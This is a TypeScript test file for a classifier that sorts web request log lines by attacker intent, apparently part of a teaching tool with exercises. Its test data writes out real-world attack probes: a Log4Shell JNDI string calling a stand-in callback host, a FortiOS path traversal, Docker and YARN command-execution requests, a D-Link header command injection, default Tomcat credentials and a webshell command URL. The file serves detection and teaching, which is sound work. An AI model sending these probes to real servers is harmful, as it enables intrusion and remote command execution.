import { existsSync, globSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { answerMistakes } from '../../src/lib/authoring/answer-check.ts';
import { exerciseSchema } from '../../src/lib/exercise/exercise-schema.ts';
import { readLog } from '../../src/lib/log/read-log.ts';
import type { Intent } from '../../src/lib/sign/intent.ts';
import { verdictOfAll } from '../../src/lib/sign/verdict.ts';
import { loadJudge } from '../../tools/load-judge.ts';

const judge = loadJudge();
const BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';

function intentOf(text: string): Intent {
  return verdictOfAll([...readLog(text)].map(({ reading }) => judge.judge(reading).verdict)).intent;
}

function line(request: string, agent: string, status = 404, user = '-'): string {
  return `192.0.2.1 - ${user} [24/Nov/2026:04:26:48 +0000] "${request}" ${status} 153 "-" "${agent}"`;
}

function sent(line: string, headers: readonly string[], body = ''): string {
  return [`${line} HTTP/1.1`, 'Host: www.example.com', ...headers, '', body].join('\n');
}

/** The ladder's hard boundaries (`research/domain.md` §3.2), and what every beginner meets first. */
describe.each<[Intent, readonly (readonly [string, string])[]]>([
  [
    'ordinary',
    [
      ['a browser on the first page', line('GET / HTTP/1.1', BROWSER, 200)],
      ['a browser on a page of a shop', line('GET /items/42?color=blue&page=2 HTTP/1.1', BROWSER, 200)],
      ['a browser on a Japanese search', line('GET /search?q=%E8%9C%82%E8%9C%9C HTTP/1.1', BROWSER, 200)],
      ['a browser that fetches a style', line('GET /assets/site.css HTTP/2.0', BROWSER, 200)],
    ],
  ],
  [
    'discovery',
    [
      ['/ by nobody', line('GET / HTTP/1.0', '-', 200)],
      ['/ by zgrab', line('GET / HTTP/1.1', 'Mozilla/5.0 zgrab/0.x', 200)],
      ['/ by a library', line('GET / HTTP/1.1', 'Go-http-client/1.1', 200)],
    ],
  ],
  [
    'crawler',
    [
      [
        'robots.txt by a crawler that names itself',
        line(
          'GET /robots.txt HTTP/1.1',
          'Mozilla/5.0 (compatible; ExampleBot/1.0; +https://www.example.com/bot)',
        ),
      ],
    ],
  ],
  [
    'research-scanner',
    [
      [
        '/ by Censys',
        line('GET / HTTP/1.1', 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)', 200),
      ],
      [
        'a login page by Palo Alto’s survey',
        line(
          'GET /wp-login.php HTTP/1.1',
          'Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com',
        ),
      ],
    ],
  ],
  [
    'fingerprint',
    [
      ['the login page of WordPress', line('GET /wp-login.php HTTP/1.1', BROWSER)],
      ['Tomcat’s manager without a name', line('GET /manager/html HTTP/1.1', 'Mozilla/5.0')],
      ['Docker’s version', line('GET /v1.24/containers/json HTTP/1.1', 'Go-http-client/1.1')],
      ['the models of Ollama', line('GET /api/tags HTTP/1.1', 'python-requests/2.31.0')],
      ['OpenAI-style models', line('GET /v1/models HTTP/1.1', 'python-requests/2.31.0')],
    ],
  ],
  [
    'info-leak',
    [
      ['.env', line('GET /.env HTTP/1.1', BROWSER)],
      [
        '.env with a body that marks it',
        sent('POST /.env', ['Content-Type: application/x-www-form-urlencoded'], '0x%5B%5D=androxgh0st'),
      ],
      ['.env by LeakIX', line('GET /.env HTTP/1.1', 'l9explore/1.2.2')],
    ],
  ],
  [
    'credential',
    [
      ['a form sent to WordPress', line('POST /wp-login.php HTTP/1.1', BROWSER)],
      [
        'Tomcat’s manager with a name',
        sent('GET /manager/html', ['Authorization: Basic dG9tY2F0OnRvbWNhdA==']),
      ],
      [
        'a name that nginx logged and refused',
        line('GET /manager/html HTTP/1.1', 'Mozilla/5.0', 401, 'tomcat'),
      ],
    ],
  ],
  [
    'exploit',
    [
      [
        'a file read past the login (Hikvision)',
        line('GET /Security/users?auth=YWRtaW46MTEK HTTP/1.1', 'Mozilla/5.0'),
      ],
      [
        'FortiOS’s session file',
        line(
          'GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1',
          'Mozilla/5.0',
        ),
      ],
      [
        'Log4Shell in the name of a visit to /',
        line('GET / HTTP/1.1', '${jndi:ldap://callback.example:1389/a}', 200),
      ],
      [
        'a container made with a command',
        sent(
          'POST /v1.24/containers/create',
          ['Content-Type: application/json'],
          '{"Image":"alpine","Cmd":["sh","-c","id"]}',
        ),
      ],
      [
        'an application of YARN with a command',
        sent(
          'POST /ws/v1/cluster/apps',
          ['Content-Type: application/json'],
          '{"am-container-spec":{"commands":{"command":"id"}}}',
        ),
      ],
      [
        'D-Link’s HNAP with a command in a header',
        sent('POST /HNAP1/', ['SOAPAction: http://purenetworks.com/HNAP1/GetDeviceSettings/`id`']),
      ],
    ],
  ],
  [
    'resource-abuse',
    [
      [
        'a container made of an image alone',
        sent('POST /v1.24/containers/create', ['Content-Type: application/json'], '{"Image":"alpine"}'),
      ],
      [
        'a new application of YARN',
        line('POST /ws/v1/cluster/apps/new-application HTTP/1.1', 'python-requests/2.31.0'),
      ],
      ['a completion', line('POST /v1/chat/completions HTTP/1.1', 'python-requests/2.31.0')],
    ],
  ],
  [
    'post-compromise',
    [
      ['ToolShell’s file', line('GET /_layouts/15/spinstall0.aspx HTTP/1.1', 'Mozilla/5.0')],
      [
        'a shell that somebody else left',
        line('GET /tomcatwar.jsp?pwd=j&cmd=whoami HTTP/1.1', 'Mozilla/5.0'),
      ],
      [
        'a command in Cowrie',
        '{"session":"13b6c607158a","protocol":"telnet","src_ip":"203.0.113.21","src_port":41557,"dst_ip":"198.51.100.10","dst_port":23,"input":"uname -a","eventid":"cowrie.command.input","sensor":"sensor01","timestamp":"2026-11-24T03:56:42.624823Z","message":"CMD: uname -a"}',
      ],
    ],
  ],
  [
    'proxy',
    [
      ['a page of somebody else', line('GET http://www.example.com/ HTTP/1.1', 'Go-http-client/1.1', 200)],
      ['CONNECT', line('CONNECT www.example.com:443 HTTP/1.1', '-', 400)],
      ['SOCKS5', line('\\x05\\x01\\x00', '-', 400)],
    ],
  ],
  [
    'protocol-mismatch',
    [
      ['a TLS hello', line('\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03', '-', 400)],
      ['RDP', line('\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr', '-', 400)],
      ['SSH', line('SSH-2.0-Go', '-', 400)],
    ],
  ],
  [
    'unknown',
    [
      ['a name that looks random', line('GET /nx8j78af1b.jsp HTTP/1.1', 'Mozilla/5.0')],
      ['a POST to / that shows nothing', line('POST / HTTP/1.1', 'Mozilla/5.0', 405)],
      ['a page that anybody may have', line('GET /dashboard HTTP/1.1', 'Mozilla/5.0')],
    ],
  ],
])('%s:', (intent, lines) => {
  test.each(lines)('%s', (_, text) => {
    expect(intentOf(text)).toBe(intent);
  });
});

const LAB = new URL('../../../shared/data/lab/samples.jsonl', import.meta.url);

/** Where we judge a sample of the lab otherwise than it proposes, and why. */
const OTHERWISE = new Map<string, Intent>();

describe.skipIf(!existsSync(LAB))('the lab’s own requests (need ../shared/data beside the project)', () => {
  const rows = existsSync(LAB)
    ? readFileSync(LAB, 'utf8')
        .trimEnd()
        .split('\n')
        .map(
          (text) =>
            JSON.parse(text) as {
              id: string;
              proposed: { class: Intent };
              raw_request: string;
              nginx: string;
            },
        )
    : [];
  // Bytes that are no request are judged by the line they left.
  test.each(rows.map((row) => [row.id, row] as const))('%s', (id, { proposed, raw_request, nginx }) => {
    const judged = [raw_request, nginx].map(intentOf);
    expect(judged).toContain(OTHERWISE.get(id) ?? proposed.class);
  });
});

describe('the answer of an exercise is what the signs say, or it says why not', () => {
  const root = new URL('../../', import.meta.url);
  const exercises = globSync('exercises/*/*.yaml', { cwd: root }).map((file) =>
    exerciseSchema.parse(parse(readFileSync(new URL(file, root), 'utf8'))),
  );
  test.each(exercises.map((exercise) => [exercise.id, exercise] as const))('%s', (_, exercise) => {
    expect(answerMistakes(exercise, intentOf)).toEqual([]);
  });
});
